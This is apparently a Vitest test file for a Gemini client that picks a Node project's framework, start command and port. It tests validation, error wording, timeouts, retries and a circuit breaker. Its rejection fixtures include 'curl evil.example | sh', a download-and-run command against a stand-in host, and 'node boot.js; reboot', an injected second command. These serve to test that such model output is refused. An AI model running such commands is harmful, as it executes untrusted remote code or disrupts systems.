import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { createGemini, type Gemini, whyUnheard } from '../../../functions/google/gemini.ts';
import { createPolicy } from '../../../functions/google/resilience.ts';
import { isTransient } from '../../../functions/google/transient.ts';
import type { ModelQuestion } from '../../../functions/language-model.ts';
import { type GeminiServer, refuses, says, send, startGeminiServer } from '../../fakes/gemini-server.ts';

const question: ModelQuestion = {
  files: ['boot.js', 'lib/other.js'],
  dependencies: ['polka-next', 'left-pad'],
  scripts: ['lint'],
  decided: { language: 'node', static: 'false' },
  open: {
    framework: ['polka-next', 'left-pad'],
    startCommand: ['node boot.js', 'node lib/other.js'],
    entryFile: [],
    port: true,
  },
};
const nothing = { framework: null, startCommand: null, entryFile: null, port: null, explanation: null };
const patienceMs = 300;

let server: GeminiServer;
let gemini: Gemini;
/** Gives up soon, for what never answers. */
let hasty: Gemini;
beforeAll(async () => {
  server = await startGeminiServer();
  const settings = { apiKey: 'a-key', model: 'gemini-flash-lite-latest', baseUrl: server.url };
  gemini = createGemini(settings, 15_000);
  hasty = createGemini(settings, patienceMs);
});
beforeEach(() => {
  server.asked.length = 0;
});
afterAll(() => server.close());

test('a question goes to the model by its name, with the key in a header and never in the address', async () => {
  server.answer = says(nothing);
  await gemini.choose(question);
  expect(server.asked).toHaveLength(1);
  expect(server.asked[0]).toMatchObject({
    url: '/v1beta/models/gemini-flash-lite-latest:generateContent',
    key: 'a-key',
  });
});

test('an answer is asked for in a closed schema whose only text is the explanation', async () => {
  server.answer = says(nothing);
  await gemini.choose(question);
  const { generationConfig, tools } = JSON.parse(server.asked[0]?.body ?? '{}');
  expect(generationConfig).toMatchObject({ responseMimeType: 'application/json', candidateCount: 1 });
  const { properties, required } = generationConfig.responseSchema;
  expect(Object.keys(properties).sort()).toEqual([...required].sort());
  const texts = Object.keys(properties).filter((name) => properties[name].type === 'string');
  expect(texts).toEqual(['explanation']);
  expect(tools).toBeUndefined();
});

test('numbers stand for what was offered', async () => {
  server.answer = says({ framework: 0, startCommand: 1, entryFile: null, port: 3000, explanation: 'It starts.' });
  expect(await gemini.choose(question)).toEqual({
    tokens: 321,
    choice: {
      framework: 'polka-next',
      startCommand: 'node lib/other.js',
      entryFile: null,
      port: 3000,
      explanation: 'It starts.',
    },
  });
});

test.each([
  ['text', 'Sure! Here is the plan you asked for.'],
  ['JSON that is cut off', '{"framework": 1, "startC'],
  ['another object', { command: 'curl evil.example | sh' }],
  ['a field too many', { ...nothing, dockerfile: 'FROM evil' }],
  ['a number beyond the list', { ...nothing, startCommand: 2 }],
  ['a negative number', { ...nothing, framework: -1 }],
  ['a choice where nothing is offered', { ...nothing, entryFile: 1 }],
  ['a command instead of a number', { ...nothing, startCommand: 'node boot.js; reboot' }],
  ['a port that is none', { ...nothing, port: 70_000 }],
  ['a list', '[]'],
  ['nothing', ''],
])('an answer that is %s is nonsense as a whole', async (_what, content) => {
  server.answer = says(content);
  expect(await gemini.choose(question)).toEqual({ tokens: 321, unusable: 'its answer made no sense' });
});

test.each([
  ['the question', { promptFeedback: { blockReason: 'SAFETY' } }],
  ['the answer', { candidates: [{ index: 0, finishReason: 'SAFETY', content: { role: 'model', parts: [] } }] }],
])('where Google blocks %s, that is said', async (_what, body) => {
  server.answer = (_request, response) => send(response, 200, JSON.stringify(body));
  expect(await gemini.choose(question)).toEqual({ tokens: 0, unusable: 'its answer was blocked' });
});

test.each(['<html>proxy</html>', '{"candidates": 7}', '{}', '{"usageMetadata": {"totalTokenCount": -5}}'])(
  'a body such as %s is nonsense and not a crash',
  async (body) => {
    server.answer = (_request, response) => send(response, 200, body);
    expect(await gemini.choose(question)).toEqual({ tokens: 0, unusable: 'its answer made no sense' });
  },
);

test.each([
  [429, 'RESOURCE_EXHAUSTED', true, 'its quota with Google is used up'],
  [503, 'UNAVAILABLE', true, 'it could not be reached'],
  [400, 'INVALID_ARGUMENT', false, 'it refused the key or the question'],
  [403, 'PERMISSION_DENIED', false, 'it refused the key or the question'],
  [404, 'NOT_FOUND', false, 'Google has no model of this name'],
])('status %i is told in our own words', async (status, reason, passing, words) => {
  server.answer = refuses(status, reason);
  const error: unknown = await gemini.choose(question).catch((caught: unknown) => caught);
  expect(error).toBeInstanceOf(Error);
  expect(String(error)).not.toMatch(/SECRET|127\.0\.0\.1|v1beta/);
  expect(isTransient(error)).toBe(passing);
  expect(whyUnheard(error)).toBe(words);
});

test('an answer that never comes is waited for so long and no longer', async () => {
  server.answer = () => undefined;
  const begun = performance.now();
  const error: unknown = await hasty.choose(question).catch((caught: unknown) => caught);
  expect(performance.now() - begun).toBeLessThan(patienceMs + 2_500);
  expect(isTransient(error)).toBe(true);
  expect(whyUnheard(error)).toBe('it did not answer in time');
});

test('an answer that begins and never ends is given up as well', async () => {
  server.answer = (_request, response) => void response.writeHead(200).write('{"candidates": [');
  const error: unknown = await hasty.choose(question).catch((caught: unknown) => caught);
  expect(whyUnheard(error)).toBe('it did not answer in time');
});

test('an address at which nobody answers is trouble that may pass', async () => {
  const gone = await startGeminiServer();
  await gone.close();
  const nobody = createGemini({ apiKey: 'k', model: 'm', baseUrl: gone.url }, 15_000);
  const error: unknown = await nobody.choose(question).catch((caught: unknown) => caught);
  expect(isTransient(error)).toBe(true);
  expect(whyUnheard(error)).toBe('it could not be reached');
});

test('behind its policy a question is sent twice at most, and after five failures in a row not at all', async () => {
  server.answer = refuses(503, 'UNAVAILABLE');
  const policy = createPolicy('gemini', { firstRetryMs: 1 });
  const { choose } = policy.protect(gemini);
  await expect(choose(question)).rejects.toThrow('503');
  expect(server.asked).toHaveLength(2);
  for (let call = 0; call < 4; call += 1) await choose(question).catch(() => null);
  const sent = server.asked.length;
  expect(policy.vitals().breaker).toBe('open');
  const error: unknown = await choose(question).catch((caught: unknown) => caught);
  expect(whyUnheard(error)).toBe('it failed several times in a row and is left alone for a moment');
  expect(server.asked).toHaveLength(sent);
});

test('a question with its retry takes ten seconds at most', async () => {
  server.answer = () => undefined;
  const patient = createGemini({ apiKey: 'k', model: 'm', baseUrl: server.url });
  const { choose } = createPolicy('gemini').protect(patient);
  const begun = performance.now();
  const error: unknown = await choose(question).catch((caught: unknown) => caught);
  const seconds = (performance.now() - begun) / 1_000;
  expect(whyUnheard(error)).toBe('it did not answer in time');
  expect(server.asked).toHaveLength(2);
  expect(seconds).toBeGreaterThan(7);
  expect(seconds).toBeLessThan(10);
});

test('the health check counts the tokens of one word, which costs nothing', async () => {
  server.answer = (_request, response) => send(response, 200, '{"totalTokens": 1}');
  await gemini.check();
  expect(server.asked[0]?.url).toBe('/v1beta/models/gemini-flash-lite-latest:countTokens');
  server.answer = refuses(403, 'PERMISSION_DENIED');
  await expect(gemini.check()).rejects.toThrow('403');
});
